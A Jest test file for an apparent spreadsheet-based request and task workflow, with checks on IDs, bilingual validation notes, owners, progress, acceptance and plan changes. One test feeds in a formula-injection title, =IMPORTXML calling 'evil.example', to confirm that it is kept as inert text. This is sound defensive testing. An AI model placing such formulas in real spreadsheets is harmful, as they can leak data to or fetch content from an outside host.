import { test } from '@jest/globals';
import assert from 'node:assert/strict';
import { Desk, day } from './workflow-fixture';

const thisMonth = () =>
  new Date().toLocaleDateString('en-CA', { timeZone: 'Asia/Shanghai' }).slice(0, 7).replace('-', '');

// ---------------------------------------------------------------- requests

test('a complete request typed into Requests gets an XQ ID, 待审核 and its submission time', () => {
  const desk = new Desk('zh-CN');
  desk.fillDirectory();
  const [first, second] = desk.paste('requests', [desk.requestRecord(), desk.requestRecord({ title: '售后响应手册' })]);
  assert.equal(desk.value('requests', first!, 'id'), `XQ${thisMonth()}001`);
  assert.equal(desk.value('requests', second!, 'id'), `XQ${thisMonth()}002`);
  assert.equal(desk.value('requests', first!, 'status'), '待审核');
  assert.ok(desk.value('requests', first!, 'submitted') instanceof Date);
  assert.equal(desk.note('requests', first!, 'title'), '');
});

test('IDs continue from the highest one of the month, also after rows are deleted', () => {
  const desk = new Desk('zh-CN');
  desk.fillDirectory();
  const [a, b] = desk.paste('requests', [desk.requestRecord(), desk.requestRecord()]);
  desk.sheet('requests').deleteRow(a!);
  const [c] = desk.paste('requests', [desk.requestRecord()]);
  assert.notEqual(desk.value('requests', c!, 'id'), desk.value('requests', b! - 1, 'id'));
  assert.equal(desk.value('requests', c!, 'id'), `XQ${thisMonth()}003`);
});

test('an incomplete request gets no ID; each wrong cell gets a note naming what is allowed; nothing typed changes', () => {
  const desk = new Desk('zh-CN');
  desk.fillDirectory();
  const [row] = desk.paste('requests', [
    desk.requestRecord({ dept: '市场', requester: '张三，李四', expected: '尽快', goal: '' }),
  ]);
  assert.equal(desk.value('requests', row!, 'id'), '');
  assert.match(
    desk.note('requests', row!, 'dept'),
    /“市场”不是已登记的部门；请填写「部门」表中的部门：市场部、销售部、售后部、产品部/,
  );
  assert.match(desk.note('requests', row!, 'requester'), /只能填一个人.*2 人：张三、李四/);
  assert.match(desk.note('requests', row!, 'expected'), /“尽快”不是日期：请写明具体的期望完成日期/);
  assert.match(desk.note('requests', row!, 'goal'), /必填/);
  assert.equal(desk.background('requests', row!, 'dept'), '#f4c7c3');
  assert.equal(desk.value('requests', row!, 'dept'), '市场');
  assert.equal(desk.value('requests', row!, 'expected'), '尽快');
  // Fixing the cells clears the notes and highlights, and the row is submitted.
  desk.edit('requests', row!, 'dept', '市场部');
  desk.edit('requests', row!, 'requester', '张三');
  desk.edit('requests', row!, 'goal', 'Q3 销售额提升 30%');
  desk.edit('requests', row!, 'expected', day(20));
  assert.equal(desk.note('requests', row!, 'dept'), '');
  assert.equal(desk.background('requests', row!, 'dept'), '#ffffff');
  assert.match(String(desk.value('requests', row!, 'id')), /^XQ\d{9}$/);
});

test('the same request problems are explained in English in an English workbook', () => {
  const desk = new Desk('en');
  desk.fillDirectory();
  const [row] = desk.paste('requests', [
    desk.requestRecord({
      requester: 'zhang.san@example.com li.si@example.com',
      expected: 'ASAP',
      title: 'x'.repeat(121),
    }),
  ]);
  assert.match(
    desk.note('requests', row!, 'requester'),
    /Exactly one person.*names 2: zhang.san@example.com, li.si@example.com/,
  );
  assert.match(desk.note('requests', row!, 'expected'), /"ASAP" is not a date: give a concrete date/);
  assert.match(desk.note('requests', row!, 'title'), /At most 120 characters \(now 121\)/);
});

test('an expected date before the submission date is rejected', () => {
  const desk = new Desk('en');
  desk.fillDirectory();
  const [row] = desk.paste('requests', [desk.requestRecord({ expected: day(-2) })]);
  assert.match(
    desk.note('requests', row!, 'expected'),
    new RegExp(`Expected by ${day(-2)} is before the submission date ${day(0)}`),
  );
  assert.equal(desk.value('requests', row!, 'id'), '');
});

test('a vague goal is a warning: the request is still submitted, the goal cell is amber with advice', () => {
  const desk = new Desk('zh-CN');
  desk.fillDirectory();
  const [row] = desk.paste('requests', [desk.requestRecord({ goal: '尽快提升效率' })]);
  assert.match(String(desk.value('requests', row!, 'id')), /^XQ/);
  assert.match(desk.note('requests', row!, 'goal'), /目标里没有数字或日期/);
  assert.equal(desk.background('requests', row!, 'goal'), '#fce8b2');
});

test('approving from the menu sets 已立项, the lead department, the coordinator and the approval time', () => {
  const desk = new Desk('zh-CN');
  desk.fillDirectory();
  const row = desk.paste('requests', [desk.requestRecord()])[0]!;
  const answer = desk.review(row, 'approve', { lead: '市场部' });
  assert.equal(desk.value('requests', row, 'status'), '已立项');
  assert.equal(desk.value('requests', row, 'lead'), '市场部');
  assert.equal(desk.value('requests', row, 'coordinator'), 'coordinator@example.com');
  assert.ok(desk.value('requests', row, 'approved') instanceof Date);
  assert.ok(answer !== 'closed' && answer?.ok);
  assert.match(answer.message, /已更新为“已立项”/);
});

test('returning needs review notes; with notes the request is 待修改, rejecting makes it 已驳回', () => {
  const desk = new Desk('zh-CN');
  desk.fillDirectory();
  const [a, b] = desk.paste('requests', [desk.requestRecord(), desk.requestRecord()]);
  const unexplained = desk.review(a!, 'return', { notes: '' });
  assert.ok(unexplained !== 'closed' && unexplained?.ok === false);
  assert.match(unexplained.message, /第 \d+ 行「审核意见」：退回修改或驳回时必须填写审核意见/);
  assert.match(
    unexplained.errors.review ?? '',
    /退回修改或驳回时必须填写审核意见/,
    'the error sits at the notes field',
  );
  assert.equal(desk.value('requests', a!, 'status'), '待审核');

  desk.review(a!, 'return', { notes: '请补充预算明细' });
  assert.equal(desk.value('requests', a!, 'status'), '待修改');
  assert.equal(desk.value('requests', a!, 'review'), '请补充预算明细');

  desk.review(b!, 'reject', { notes: '与现有项目重复' });
  assert.equal(desk.value('requests', b!, 'status'), '已驳回');
});

test('approving needs a known lead department', () => {
  const desk = new Desk('en');
  desk.fillDirectory();
  const [row] = desk.paste('requests', [desk.requestRecord()]);
  const answer = desk.review(row!, 'approve', { lead: 'Marketing' });
  assert.ok(answer !== 'closed' && answer?.ok === false);
  assert.match(answer.message, /Lead dept: "Marketing" is not a known department/);
  assert.equal(desk.value('requests', row!, 'status'), 'Pending review');
});

test('a rejected request cannot be approved again, and the menu needs a selected request row', () => {
  const desk = new Desk('en');
  desk.fillDirectory();
  const [row] = desk.paste('requests', [desk.requestRecord()]);
  desk.review(row!, 'reject', { notes: 'duplicate' });
  const again = desk.review(row!, 'approve', { lead: '市场部' });
  assert.ok(again !== 'closed' && again?.ok === false);
  assert.match(again.message, /is "Rejected"; this only works for: Pending review, Needs changes/);
  desk.select('tasks', 2);
  desk.project.call('approveRequest_');
  assert.match(desk.lastAlert(), /Select a data row in the Requests sheet first/);
});

test('a request title starting with = is kept as text, never run as a formula', () => {
  const desk = new Desk('en');
  desk.fillDirectory();
  const result = desk.project.runFromSidebar('submitSidebarForm', 'request', {
    title: '=IMPORTXML("http://evil.example","//a")',
    dept: '市场部',
    requester: 'zhang.san@example.com',
    contact: '+86 138 0000 0000',
    goal: 'Sales +30 %',
    depts: '',
    expected: day(10),
    resources: '@everyone',
    attachments: '',
  }) as { ok: boolean };
  assert.equal(result.ok, true);
  const row = desk.sheet('requests').getLastRow();
  assert.equal(desk.cell('requests', row, 'title').getFormula(), '');
  assert.equal(desk.value('requests', row, 'title'), '=IMPORTXML("http://evil.example","//a")');
  assert.equal(desk.value('requests', row, 'contact'), '+86 138 0000 0000');
  assert.equal(desk.value('requests', row, 'resources'), '@everyone');
});

// ---------------------------------------------------------------- tasks and the one primary owner

test('a task row typed with an approved request gets its ID, baseline and 未开始', () => {
  const desk = new Desk('zh-CN');
  desk.fillDirectory();
  const { id } = desk.approvedRequest();
  const [row] = desk.paste('tasks', [desk.taskRecord(id)]);
  assert.equal(desk.value('tasks', row!, 'id'), `RW${id.slice(2)}-01`);
  assert.equal(desk.text('tasks', row!, 'baseline').slice(0, 10), day(5));
  assert.equal(desk.value('tasks', row!, 'status'), '未开始');
  assert.equal(desk.note('tasks', row!, 'owner'), '');
});

test('every way of naming two owners, an unknown name or a bad email is noted and highlighted on the owner cell', () => {
  const desk = new Desk('zh-CN');
  desk.fillDirectory();
  const { id } = desk.approvedRequest();
  const owners = [
    '张三、李四',
    '张三,李四',
    '张三；李四',
    '张三/李四',
    '张三和李四',
    '张三 & 李四',
    '张三+李四',
    'zhang.san@example.com li.si@example.com',
    '赵六',
    'zhang.san@',
  ];
  const rows = desk.paste(
    'tasks',
    owners.map((owner) => desk.taskRecord(id, { owner })),
  );
  for (const [i, row] of rows.entries()) {
    assert.ok(desk.note('tasks', row, 'owner').startsWith('⚠ 协作台：'), owners[i]);
    assert.equal(desk.background('tasks', row, 'owner'), '#f4c7c3', owners[i]);
    assert.equal(desk.value('tasks', row, 'owner'), owners[i], 'never silently fixed');
  }
  assert.match(
    desk.note('tasks', rows[0]!, 'owner'),
    /只能填一位第一责任人.*2 人：张三、李四。协助的人请填在「协助部门\/协作人」/,
  );
  assert.match(desk.note('tasks', rows[8]!, 'owner'), /“赵六”不在「人员」表中/);
  assert.match(desk.note('tasks', rows[9]!, 'owner'), /“zhang.san@”不是有效的邮箱地址/);
});

test('an owner note goes away when the owner is fixed, and the user’s own note stays', () => {
  const desk = new Desk('en');
  desk.fillDirectory();
  const { id } = desk.approvedRequest();
  const [row] = desk.paste('tasks', [desk.taskRecord(id, { owner: '张三 and 李四' })]);
  const existing = desk.note('tasks', row!, 'owner');
  desk.cell('tasks', row!, 'owner').setNote(`Ask HR\n\n${existing}`);
  desk.edit('tasks', row!, 'owner', 'li.si@example.com');
  assert.equal(desk.note('tasks', row!, 'owner'), 'Ask HR');
  assert.equal(desk.background('tasks', row!, 'owner'), '#ffffff');
});

test('an empty owner is fine on 未开始 but a violation once the task is under way', () => {
  const desk = new Desk('zh-CN');
  desk.fillDirectory();
  const { id } = desk.approvedRequest();
  const [waiting, running] = desk.paste('tasks', [
    desk.taskRecord(id, { owner: '' }),
    desk.taskRecord(id, { owner: '', status: '进行中' }),
  ]);
  assert.equal(desk.note('tasks', waiting!, 'owner'), '');
  assert.match(desk.note('tasks', running!, 'owner'), /状态为“进行中”的任务必须有一位第一责任人/);
});

test('a task for an unknown or unapproved request, a due before start and unknown dependencies are flagged', () => {
  const desk = new Desk('en');
  desk.fillDirectory();
  const [pendingRow] = desk.paste('requests', [desk.requestRecord()]);
  const pending = String(desk.value('requests', pendingRow!, 'id'));
  const rows = desk.paste('tasks', [
    desk.taskRecord('XQ209901001'),
    desk.taskRecord(pending),
    desk.taskRecord(pending, { start: day(5), due: day(1), dependsOn: 'RW209901001-01' }),
  ]);
  assert.match(desk.note('tasks', rows[0]!, 'request'), /There is no request "XQ209901001"/);
  assert.match(desk.note('tasks', rows[1]!, 'request'), /is "Pending review"; this only works for: Approved/);
  assert.match(desk.note('tasks', rows[2]!, 'due'), new RegExp(`Due ${day(1)} is before the start ${day(5)}`));
  assert.match(desk.note('tasks', rows[2]!, 'dependsOn'), /There is no task "RW209901001-01"/);
  assert.equal(desk.value('tasks', rows[1]!, 'id'), '', 'no ID for a task of an unapproved request');
});

test('a task ID that appears twice is flagged on both rows, and Validate lists it', () => {
  const desk = new Desk('zh-CN');
  desk.fillDirectory();
  const { id } = desk.approvedRequest();
  const [a, b] = desk.paste('tasks', [desk.taskRecord(id), desk.taskRecord(id)]);
  // Row a copied over row b, as a user copies a row: its ID comes with it.
  desk.copyRow('tasks', a!, b!);
  const duplicated = String(desk.value('tasks', a!, 'id'));
  for (const row of [a, b])
    assert.match(desk.note('tasks', row!, 'id'), new RegExp(`任务编号 ${duplicated} 重复出现在第 ${a}, ${b} 行`));
  desk.project.call('validate_');
  assert.match(desk.lastAlert(), /发现 2 个问题/);
  assert.match(desk.lastAlert(), new RegExp(`任务分工 · 第 ${a} 行「任务编号」`));
});

test('Validate on a clean workbook says so', () => {
  const desk = new Desk('en');
  desk.fillDirectory();
  desk.project.call('validate_');
  assert.equal(desk.lastAlert(), 'Checked: no problems found.');
});

// ---------------------------------------------------------------- progress

/** A task of a request in execution (SPEC §3.6: work starts only through sign-off), and any `others` of it. */
function deskWithTask(
  lang: 'zh-CN' | 'en',
  task: Record<string, unknown> = {},
  others: Record<string, unknown>[] = [],
) {
  const desk = new Desk(lang);
  desk.fillDirectory();
  const { id: requestId, row: requestRow, taskRows } = desk.executingRequest([task, ...others]);
  const [row] = taskRows;
  return { desk, requestId, requestRow, taskRow: row, taskRows, taskId: String(desk.value('tasks', row!, 'id')) };
}

test('a progress entry typed into Progress is stamped and moves the task’s %, last update, status, latest summary and delay reason', () => {
  const { desk, taskRow, taskId } = deskWithTask('zh-CN');
  const [row] = desk.paste('progress', [{ task: taskId, summary: '方案撰写70%', pct: 70, delayReason: '无' }]);
  assert.equal(desk.value('progress', row!, 'owner'), '张三');
  assert.ok(desk.value('progress', row!, 'updatedAt') instanceof Date);
  assert.equal(desk.value('progress', row!, 'updatedBy'), 'coordinator@example.com');
  assert.equal(desk.value('tasks', taskRow!, 'pct'), 70);
  assert.ok(desk.value('tasks', taskRow!, 'lastUpdate') instanceof Date);
  assert.equal(desk.value('tasks', taskRow!, 'status'), '进行中');
  assert.equal(desk.value('tasks', taskRow!, 'progressSummary'), '方案撰写70%');
  assert.equal(desk.value('tasks', taskRow!, 'delayReason'), '无');
  // 100 % puts the task up for acceptance.
  desk.paste('progress', [{ task: taskId, summary: '完成', pct: 100 }]);
  assert.equal(desk.value('tasks', taskRow!, 'status'), '待验收');
  assert.equal(desk.value('tasks', taskRow!, 'progressSummary'), '完成');
  assert.equal(desk.value('tasks', taskRow!, 'delayReason'), '');
});

test('bad progress entries are refused with a message on the cell and change no task', () => {
  const { desk, taskRow, taskId } = deskWithTask('zh-CN');
  desk.paste('progress', [{ task: taskId, summary: '一半', pct: 50 }]);
  const rows = desk.paste('progress', [
    { task: 'RW000000000-01', summary: '?', pct: 10 },
    { task: taskId, summary: '超了', pct: 150 },
    { task: taskId, summary: '回退', pct: 40 },
  ]);
  assert.match(desk.note('progress', rows[0]!, 'task'), /找不到任务“RW000000000-01”/);
  assert.match(desk.note('progress', rows[1]!, 'pct'), /完成百分比必须是 0 到 100 之间的数字（现在是“150”）/);
  assert.match(
    desk.note('progress', rows[2]!, 'pct'),
    /完成百分比 40% 低于上一次的 50%；如确实回退，请在「说明」中写明原因/,
  );
  for (const row of rows) assert.equal(desk.value('progress', row, 'updatedAt'), '');
  assert.equal(desk.value('tasks', taskRow!, 'pct'), 50);
  // With a note the lower value is accepted.
  desk.edit('progress', rows[2]!, 'note', '返工：客户改了需求');
  assert.equal(desk.value('tasks', taskRow!, 'pct'), 40);
  assert.equal(desk.note('progress', rows[2]!, 'pct'), '');
});

test('an entry far behind plan needs a delay reason ("none" does not count)', () => {
  const { desk, taskRow, taskId } = deskWithTask('en', { start: day(-20), due: day(2) });
  const [row] = desk.paste('progress', [{ task: taskId, summary: 'barely started', pct: 5, delayReason: 'none' }]);
  assert.match(
    desk.note('progress', row!, 'delayReason'),
    /By plan about \d+% should be done by now and this entry says 5%/,
  );
  assert.equal(desk.value('tasks', taskRow!, 'pct'), '');
  desk.edit('progress', row!, 'delayReason', 'waiting for key-account data from Sales');
  assert.equal(desk.value('tasks', taskRow!, 'pct'), 5);
});

test('one progress edit costs one read and at most one write per run of changed cells of each sheet it touches', () => {
  const { desk, taskRow, taskId } = deskWithTask('en');
  desk.calls.reset();
  desk.paste('progress', [{ task: taskId, summary: 'draft', pct: 30 }]);
  const counts = desk.calls.snapshot();
  assert.equal(counts['Range.setValue'] ?? 0, 0, 'never cell by cell');
  // The paste itself, the stamped progress row, the task row's status, its % and last update
  // (Health between them, SPEC §2's reading order, is not rewritten: SPEC §3.4), its latest
  // summary at the right end, and its Change history rows (SPEC §2.10).
  assert.ok((counts['Range.setValues'] ?? 0) <= 6, JSON.stringify(counts));
  assert.equal(desk.value('tasks', taskRow!, 'progressSummary'), 'draft');
});

// ---------------------------------------------------------------- acceptance

test('acceptance Fail needs a reason and sends the task back; Pass completes it and closes the request', () => {
  const { desk, requestRow, taskRow, taskId } = deskWithTask('zh-CN');
  // A coordinator's Pass takes effect at once (the requester's sign-off is signoff.test.ts's).
  desk.setSetting('signOffAcceptance', 'coordinator');
  desk.paste('progress', [{ task: taskId, summary: '完成', pct: 100 }]);
  const [noReason] = desk.paste('acceptance', [{ task: taskId, result: '不通过' }]);
  assert.match(desk.note('acceptance', noReason!, 'reason'), /验收不通过时必须填写不通过原因/);
  assert.equal(desk.value('tasks', taskRow!, 'status'), '待验收');

  desk.edit('acceptance', noReason!, 'reason', '缺少竞品对比');
  assert.equal(desk.value('tasks', taskRow!, 'status'), '进行中');
  assert.equal(desk.value('acceptance', noReason!, 'standard'), '方案初稿经市场部评审通过');

  // Pass only on a task 待验收 (SPEC §3.6): the reworked deliverable is posted again first.
  desk.paste('progress', [{ task: taskId, summary: '返工完成', pct: 100 }]);
  const [pass] = desk.paste('acceptance', [{ task: taskId, result: '通过', acceptedBy: '李四' }]);
  assert.equal(desk.value('tasks', taskRow!, 'status'), '已完成');
  assert.equal(desk.value('acceptance', pass!, 'acceptedBy'), '李四', 'typed value kept');
  assert.equal(desk.value('requests', requestRow, 'status'), '已完成');
  assert.ok(desk.value('requests', requestRow, 'closed') instanceof Date);
});

test('a request stays open while another live task is not done; cancelled tasks do not count', () => {
  const { desk, requestRow, taskRows, taskId } = deskWithTask('en', {}, [
    { name: 'Sales training' },
    { status: 'Cancelled' },
  ]);
  const [, other, cancelled] = taskRows;
  desk.setSetting('signOffAcceptance', 'coordinator');
  const otherId = String(desk.value('tasks', other!, 'id'));
  desk.paste('progress', [
    { task: taskId, summary: 'done', pct: 100 },
    { task: otherId, summary: 'done', pct: 100 },
  ]);
  desk.paste('acceptance', [{ task: taskId, result: 'Pass' }]);
  assert.equal(desk.value('requests', requestRow, 'status'), 'In execution');
  desk.paste('acceptance', [{ task: otherId, result: 'Pass' }]);
  assert.equal(desk.value('requests', requestRow, 'status'), 'Done');
  assert.equal(desk.value('tasks', cancelled!, 'status'), 'Cancelled');
});

test('an unknown result value is refused with the allowed values in the workbook language', () => {
  const { desk, taskId } = deskWithTask('en');
  const [row] = desk.paste('acceptance', [{ task: taskId, result: 'OK-ish' }]);
  assert.match(desk.note('acceptance', row!, 'result'), /"OK-ish" is not allowed; choose one of: Pass, Fail/);
});

// ---------------------------------------------------------------- plan changes

test('an approved plan change moves the due date and keeps the baseline', () => {
  const { desk, taskRow, taskId } = deskWithTask('zh-CN', { due: day(5) });
  // Decided by a coordinator (the heads' sign-off is signoff.test.ts's).
  desk.setSetting('signOffChange', 'coordinator');
  const [row] = desk.paste('planChanges', [{ task: taskId, newDue: day(12), reason: '销售部数据延迟' }]);
  assert.equal(desk.value('planChanges', row!, 'status'), '待批');
  assert.equal(desk.text('planChanges', row!, 'oldDue').slice(0, 10), day(5));
  assert.ok(desk.value('planChanges', row!, 'requestedAt') instanceof Date);
  assert.equal(desk.text('tasks', taskRow!, 'due').slice(0, 10), day(5), 'nothing moves before approval');

  desk.edit('planChanges', row!, 'status', '批准');
  assert.equal(desk.text('tasks', taskRow!, 'due').slice(0, 10), day(12));
  assert.equal(desk.text('tasks', taskRow!, 'baseline').slice(0, 10), day(5));
  assert.ok(desk.value('planChanges', row!, 'decidedAt') instanceof Date);

  // A second change still measures against the original plan.
  const [again] = desk.paste('planChanges', [{ task: taskId, newDue: day(15), reason: '再延' }]);
  desk.edit('planChanges', again!, 'status', '批准');
  assert.equal(desk.text('tasks', taskRow!, 'baseline').slice(0, 10), day(5));
});

test('a rejected plan change leaves the task alone; a change without reason or date is refused', () => {
  const { desk, taskRow, taskId } = deskWithTask('en', { due: day(5) });
  const [rejected, bad] = desk.paste('planChanges', [
    { task: taskId, newDue: day(9), reason: 'more time' },
    { task: taskId, newDue: 'next month', reason: '' },
  ]);
  desk.edit('planChanges', rejected!, 'status', 'Rejected');
  assert.equal(desk.text('tasks', taskRow!, 'due').slice(0, 10), day(5));
  assert.match(desk.note('planChanges', bad!, 'newDue'), /"next month" is not a date/);
  assert.match(desk.note('planChanges', bad!, 'reason'), /Required/);
  assert.equal(desk.value('planChanges', bad!, 'requestedAt'), '');
});

test('writing back a block keeps the user’s own formulas and columns inside it', () => {
  const desk = new Desk('zh-CN');
  desk.fillDirectory();
  const [row] = desk.paste('requests', [desk.requestRecord()]);
  const requests = desk.sheet('requests');
  // A column of the user's own, with a formula, between columns the approval writes.
  const at = desk.col('requests', 'coordinator');
  requests.insertColumnsBefore(at, 1);
  requests.getRange(1, at).setValue('我的公式');
  requests.getRange(row!, at).setFormula('=LEN("abc")');
  desk.review(row!, 'approve', { lead: '市场部' });
  assert.equal(desk.value('requests', row!, 'status'), '已立项');
  assert.equal(requests.getRange(row!, at).getFormula(), '=LEN("abc")');
  assert.equal(requests.getRange(row!, at).getValue(), 3);
});

// ---------------------------------------------------------------- sidebar calls

test('the sidebar splits an approved request into tasks, all or nothing, with errors per task and field', () => {
  const desk = new Desk('en');
  desk.fillDirectory();
  const { id } = desk.approvedRequest();
  const good = {
    name: 'Draft plan',
    dept: '市场部',
    owner: '张三',
    start: day(0),
    due: day(7),
    deliverable: 'Approved by Marketing',
  };
  const refused = desk.project.runFromSidebar('splitRequest', {
    requestId: id,
    tasks: [good, { ...good, name: 'Train sales', owner: '张三, 李四', dependsOn: '#1' }],
  }) as { ok: boolean; message: string; errors: Record<string, string> };
  assert.equal(refused.ok, false);
  assert.match(refused.errors['1.owner']!, /Exactly one primary owner/);
  assert.match(refused.message, /^Task 2 · Primary owner: Exactly one primary owner/);
  assert.equal(desk.sheet('tasks').getLastRow(), 1, 'nothing written');

  const done = desk.project.runFromSidebar('splitRequest', {
    requestId: id,
    tasks: [good, { ...good, name: 'Train sales', owner: '李四', dependsOn: '#1' }],
  }) as { ok: boolean };
  assert.equal(done.ok, true);
  assert.equal(desk.value('tasks', 3, 'dependsOn'), desk.value('tasks', 2, 'id'));
  assert.equal(desk.text('tasks', 3, 'baseline'), desk.text('tasks', 3, 'due'));
});

test('the sidebar reviews a request; a malformed payload or a non-coordinator changes nothing', () => {
  const desk = new Desk('zh-CN');
  desk.fillDirectory();
  const [row] = desk.paste('requests', [desk.requestRecord()]);
  const id = String(desk.value('requests', row!, 'id'));
  const bad = desk.project.runFromSidebar('reviewRequest', { id, decision: 'maybe' }) as {
    ok: boolean;
    errors: Record<string, string>;
  };
  assert.equal(bad.ok, false);
  assert.ok('decision' in bad.errors);
  const ok = desk.project.runFromSidebar('reviewRequest', { id, decision: 'return', notes: '请补充预算' }) as {
    ok: boolean;
  };
  assert.equal(ok.ok, true);
  assert.equal(desk.value('requests', row!, 'status'), '待修改');

  const settings = desk.sheet('settings');
  const coordinators =
    settings
      .getDataRange()
      .getValues()
      .findIndex((r) => r[0] === '协作总负责人') + 1;
  settings.getRange(coordinators, 2).setValue('boss@example.com');
  const refused = desk.project.runFromSidebar('reviewRequest', { id, decision: 'approve', lead: '市场部' }) as {
    ok: boolean;
    message: string;
  };
  assert.equal(refused.ok, false);
  assert.match(refused.message, /只有协作总负责人可以执行此操作/);
  assert.equal(desk.value('requests', row!, 'status'), '待修改');
});

test('Validate also lists bad Settings rows', () => {
  const desk = new Desk('en');
  const settings = desk.sheet('settings');
  const row =
    settings
      .getDataRange()
      .getValues()
      .findIndex((r) => r[0] === 'Stale after (working days)') + 1;
  settings.getRange(row, 2).setValue('soon');
  desk.project.call('validate_');
  assert.match(desk.lastAlert(), /Found 1 problems/);
  assert.match(desk.lastAlert(), new RegExp(`Settings · .*${row}.*soon`));
});

test('an edit on a sheet that lost a needed column explains itself in a toast', () => {
  const desk = new Desk('en');
  desk.fillDirectory();
  const tasks = desk.sheet('tasks');
  tasks.deleteColumn(desk.col('tasks', 'baseline'));
  desk.paste('tasks', [{ name: 'Draft plan' }]);
  const [toast] = desk.ss.emuToasts();
  assert.match(toast!.message, /The Tasks sheet lacks columns: Baseline due; run "Set up workbook" to add them/);
});
